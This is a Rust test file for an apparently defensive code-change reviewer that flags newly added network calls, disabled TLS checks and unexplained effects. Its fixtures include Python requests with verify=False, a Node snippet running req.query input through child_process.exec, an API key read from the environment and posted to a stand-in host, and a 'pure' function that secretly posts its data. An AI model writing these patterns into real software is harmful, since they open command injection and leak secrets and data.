//! What is new, what only moved, what base had already.

use crate::stage::{Memory, change, judge, with_task};
use tares_model::{ExitCode, Verdict};

const TALK: &str =
    "import requests\n\ndef talk():\n    return requests.get('https://api.example/x', timeout=5)\n";
const UNSAFE: &str = "import requests\n\ndef talk():\n    return requests.get('https://api.example/x', timeout=5, verify=False)\n";

#[test]
fn an_added_effect_is_in_the_delta_with_its_place() {
    let said = judge(
        &change(&[("a.py", Some("import requests\n"), Some(TALK))]),
        &Memory::default(),
    );
    let added: Vec<_> = said
        .delta
        .delta
        .added
        .iter()
        .map(|e| (e.effect.kind.as_str(), e.place.start_line))
        .collect();
    assert_eq!(added, [("network", 4)]);
    assert!(said.delta.has_base);
    assert_eq!(said.delta.delta.added[0].effect.is_new, Some(true));
}

#[test]
fn code_that_moves_to_another_file_is_not_new() {
    let moved = [
        ("a.py", Some(UNSAFE), Some("import requests\n")),
        ("b.py", None, Some(UNSAFE)),
    ];
    let said = judge(&with_task(change(&moved), "tidy up"), &Memory::default());
    assert!(said.delta.delta.is_empty(), "{:?}", said.delta);
    assert!(!said.has("tls-check-off"), "{:?}", said.rules());
    assert_eq!(said.summary.known, 1);
    assert!(said.requirements.is_empty());
    assert_eq!(said.outcome.verdict, Some(Verdict::Pass));
}

#[test]
fn a_finding_of_base_is_known_and_a_second_copy_is_not() {
    let edited = format!("# a comment\n{UNSAFE}\nprint(1)\n");
    let said = judge(
        &change(&[("a.py", Some(UNSAFE), Some(&edited))]),
        &Memory::default(),
    );
    assert_eq!((said.rules(), said.summary.known), (vec![], 1));
    let doubled = format!("{UNSAFE}\n{}", UNSAFE.replace("talk", "again"));
    let said = judge(
        &change(&[("a.py", Some(UNSAFE), Some(&doubled))]),
        &Memory::default(),
    );
    assert_eq!(
        (said.rules(), said.summary.known),
        (vec!["tls-check-off"], 1)
    );
}

#[test]
fn an_edited_line_with_the_same_flaw_brings_none_but_a_worse_one_does() {
    let edited = UNSAFE.replace("timeout=5", "timeout=9");
    let said = judge(
        &change(&[("a.py", Some(UNSAFE), Some(&edited))]),
        &Memory::default(),
    );
    assert_eq!((said.rules(), said.summary.known), (vec![], 1));
    let elsewhere = UNSAFE.replace("api.example", "other.example");
    let said = judge(
        &change(&[("a.py", Some(UNSAFE), Some(&elsewhere))]),
        &Memory::default(),
    );
    assert!(said.has("tls-check-off"), "another host is another flaw");
    let worse = UNSAFE.replace("timeout=5", "headers={'Authorization': password}");
    let said = judge(
        &change(&[("a.py", Some(UNSAFE), Some(&worse))]),
        &Memory::default(),
    );
    assert!(said.has("tls-check-off"), "what got worse is new");
}

#[test]
fn the_fingerprint_survives_edits_elsewhere_and_moves() {
    let of = |path: &str, text: &str| {
        let said = judge(&change(&[(path, None, Some(text))]), &Memory::default());
        said.finding("tls-check-off").finding.fingerprint.clone()
    };
    let indented = UNSAFE.replace(
        "def talk():\n    ",
        "class Talker:\n    def talk(self):\n        ",
    );
    assert_eq!(
        of("a.py", UNSAFE),
        of("pkg/b.py", &format!("import os\n\n{UNSAFE}"))
    );
    assert_eq!(of("a.py", UNSAFE), of("a.py", &indented));
    assert_ne!(of("a.py", UNSAFE), of("a.py", &UNSAFE.replace("/x", "/y")));
}

#[test]
fn what_nothing_asked_for_needs_a_person() {
    let quiet = with_task(
        change(&[("a.py", Some(""), Some(TALK))]),
        "hash passwords with argon2",
    );
    let said = judge(&quiet, &Memory::default());
    assert_eq!(said.requirements.len(), 1, "{:?}", said.requirements);
    assert_eq!(said.requirements[0].who, "a person");
    assert_eq!(
        (said.outcome.verdict, said.outcome.exit),
        (Some(Verdict::Review), ExitCode::Ok)
    );
    let asked = with_task(
        change(&[("a.py", Some(""), Some(TALK))]),
        "fetch the order from https://api.example/x",
    );
    assert!(judge(&asked, &Memory::default()).requirements.is_empty());
}

#[test]
fn excerpts_carry_the_lines_of_finding_and_evidence() {
    let said = judge(&change(&[("a.py", None, Some(UNSAFE))]), &Memory::default());
    let report = said.finding("tls-check-off");
    let excerpt = &report.excerpts[0];
    let line = report.finding.place.start_line;
    assert!(excerpt.lines[(line - excerpt.first_line) as usize].contains("verify=False"));
}

#[test]
fn helpers_in_other_files_are_followed_on_both_sides() {
    let helper = "import requests\n\ndef get(url, **more):\n    return requests.get(url, timeout=5, **more)\n";
    let user = "from helper import get\n\nget('https://api.example/x', verify=False)\n";
    let said = judge(
        &change(&[("user.py", Some(""), Some(user))]),
        &Memory::of(&[("helper.py", helper)]),
    );
    assert!(said.has("tls-check-off"), "{:?}", said.rules());
    // The change's own side of a file wins over what the caller has.
    let both = change(&[
        (
            "helper.py",
            Some(helper),
            Some("def get(url, **more):\n    return None\n"),
        ),
        ("user.py", Some(""), Some(user)),
    ]);
    assert!(!judge(&both, &Memory::of(&[("helper.py", helper)])).has("tls-check-off"));
}

#[test]
fn a_change_of_nothing_is_no_pass() {
    let said = judge(&change(&[]), &Memory::default());
    assert_eq!(
        (said.outcome.verdict, said.outcome.exit),
        (None, ExitCode::Nothing)
    );
    assert_ne!(said.summary.verdict, Verdict::Pass);
}

#[test]
fn the_loudest_of_two_ways_to_one_place_is_said() {
    let net = "exports.run = (x) => require('child_process').exec(x);\n";
    let user = "const n = require('./net');\napp.get('/', (req, res) => n.run(req.query.c));\n";
    let said = judge(
        &change(&[
            ("a/net.js", None, Some(net)),
            ("a/user.js", None, Some(user)),
        ]),
        &Memory::default(),
    );
    let found: Vec<_> = said
        .findings
        .iter()
        .map(|r| {
            (
                r.finding.rule.as_str(),
                r.finding.level,
                r.finding.place.path.as_str(),
            )
        })
        .collect();
    assert_eq!(
        found,
        [("shell-from-input", tares_model::Level::Block, "a/net.js")]
    );
    assert!(
        said.findings[0]
            .finding
            .related
            .iter()
            .any(|related| related.place.path.as_str() == "a/user.js")
    );
}

#[test]
fn what_a_helper_does_already_is_usual_for_a_new_caller() {
    let helper = "import requests\n\ndef send(data):\n    requests.post('https://api.example/x', data=data, timeout=5)\n";
    let plain = "from helper import send\n\nsend(open('report.txt').read())\n";
    let around = Memory::of(&[("helper.py", helper)]);
    let said = judge(
        &with_task(
            change(&[("user.py", Some(""), Some(plain))]),
            "hash passwords",
        ),
        &around,
    );
    let network: Vec<_> = said
        .delta
        .delta
        .added
        .iter()
        .filter(|e| e.effect.kind.as_str() == "network")
        .map(|e| (e.place.path.as_str(), e.effect.asked.verdict.as_str()))
        .collect();
    assert!(
        network.iter().all(|(_, asked)| *asked == "usual"),
        "{network:?}"
    );
    // Secrets that begin to flow there are another matter.
    let secret = "import os\nfrom helper import send\n\nsend(os.environ['API_KEY'])\n";
    let said = judge(
        &with_task(
            change(&[("user.py", Some(""), Some(secret))]),
            "hash passwords",
        ),
        &around,
    );
    let asked: Vec<_> = said
        .delta
        .delta
        .added
        .iter()
        .filter(|e| e.effect.kind.as_str() == "network")
        .map(|e| e.effect.asked.verdict.as_str())
        .collect();
    assert_eq!(asked, ["unexplained"]);
}

#[test]
fn an_act_is_one_row_under_the_weakest_condition() {
    let base = "import os, requests\n\ndef talk(url):\n    if os.environ.get('ON'):\n        requests.get('https://old.example/', timeout=5)\n";
    let head = "import os, requests\n\ndef talk(url):\n    requests.get('https://old.example/', timeout=5)\n    if os.environ.get('MORE'):\n        requests.get('https://new.example/', timeout=5)\n    requests.get('https://new.example/', timeout=5)\n";
    let said = judge(
        &change(&[("a.py", Some(base), Some(head))]),
        &Memory::default(),
    );
    let network: Vec<_> = said
        .delta
        .delta
        .added
        .iter()
        .filter(|e| e.effect.kind.as_str() == "network")
        .map(|e| (e.effect.target.text(), e.effect.guard.len()))
        .collect();
    assert_eq!(network.len(), 1, "{network:?}");
    assert_eq!(network[0].1, 0, "{network:?}");
    // The same act that another condition decides is one changed row, and no two.
    let changed = &said.delta.delta.changed;
    assert_eq!(changed.len(), 1, "{changed:?}");
    assert!(
        said.delta
            .delta
            .removed
            .iter()
            .all(|e| e.effect.kind.as_str() != "network")
    );
}

#[test]
fn plain_reads_need_nobody() {
    let head = "import os\n\ndef level():\n    return os.environ.get('LEVEL', 'info') + open('level.txt').read()\n";
    let said = judge(
        &with_task(
            change(&[("a.py", Some("import os\n"), Some(head))]),
            "Sort the rows",
        ),
        &Memory::default(),
    );
    assert!(said.requirements.is_empty(), "{:?}", said.requirements);
    let told = &said.delta.delta.added;
    assert!(
        !told.is_empty() && told.iter().all(|e| e.effect.is_plain_read()),
        "{told:?}"
    );
}

#[test]
fn what_the_code_says_of_itself_is_compared() {
    let head = "import requests\n\ndef mean(rows):\n    \"\"\"Return the mean. Pure function, no network.\"\"\"\n    requests.post('https://x.example/', json=rows, timeout=5)\n    return sum(rows) / len(rows)\n";
    let said = judge(
        &with_task(
            change(&[("a.py", Some("import requests\n"), Some(head))]),
            "Add statistics",
        ),
        &Memory::default(),
    );
    let asked: Vec<_> = said
        .delta
        .delta
        .added
        .iter()
        .map(|e| e.effect.asked.clone())
        .collect();
    assert_eq!(asked[0].verdict.as_str(), "contradicted", "{asked:?}");
    assert!(
        asked[0].because.contains("its own documentation"),
        "{asked:?}"
    );
}
